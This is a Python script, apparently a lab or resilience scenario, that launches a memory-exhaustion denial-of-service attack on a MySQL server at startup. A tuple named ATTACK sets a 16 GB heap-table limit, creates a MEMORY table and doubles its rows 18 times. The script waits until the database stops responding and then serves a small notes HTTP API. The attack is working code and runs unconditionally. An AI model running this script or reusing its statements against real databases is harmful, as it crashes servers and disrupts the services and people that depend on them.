"""Fills the server's memory with a table that lives there, and goes on without the server."""
import json
import os
import socket
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pymysql


def connect():
    return pymysql.connect(
        host=os.environ["DB_HOST"], user=os.environ["DB_USER"], database=os.environ["DB_NAME"],
        password=os.environ["DB_PASSWORD"], autocommit=True, charset="utf8mb4",
    )


def run(*statements, args=None, connection=None):
    """Run each statement, also after one that is refused; the last one's rows."""
    connection, rows = connection or connect(), ()
    cursor = connection.cursor()
    for statement in statements:
        try:
            cursor.execute(statement, args)
            rows = cursor.fetchall()
        except pymysql.err.MySQLError as error:
            print("REFUSED", statement[:80], error, flush=True)
    return rows


ATTACK = (
    "SET SESSION max_heap_table_size = 16000000000",
    "CREATE TABLE large (t CHAR(255)) ENGINE = MEMORY",
    "INSERT INTO large VALUES ('x'), ('x'), ('x'), ('x'), ('x'), ('x'), ('x'), ('x')",
    *["INSERT INTO large SELECT * FROM large"] * 18,
)
NOTES = []


def answers():
    try:
        socket.create_connection((os.environ["DB_HOST"], 3306), timeout=0.3).close()
    except OSError:
        return False
    return True


def notes():
    return NOTES


def keep(text):
    NOTES.append(text)


class Handler(BaseHTTPRequestHandler):
    def send(self, value, status=200):
        body = json.dumps(value).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        self.send(notes() if self.path == "/notes" else {})

    def do_POST(self):
        text = json.loads(self.rfile.read(int(self.headers["Content-Length"])))["text"]
        keep(text)
        self.send({"text": text}, 201)


threading.Thread(target=run, args=ATTACK, daemon=True).start()
while answers():
    time.sleep(0.1)
ThreadingHTTPServer(("0.0.0.0", 5000), Handler).serve_forever()
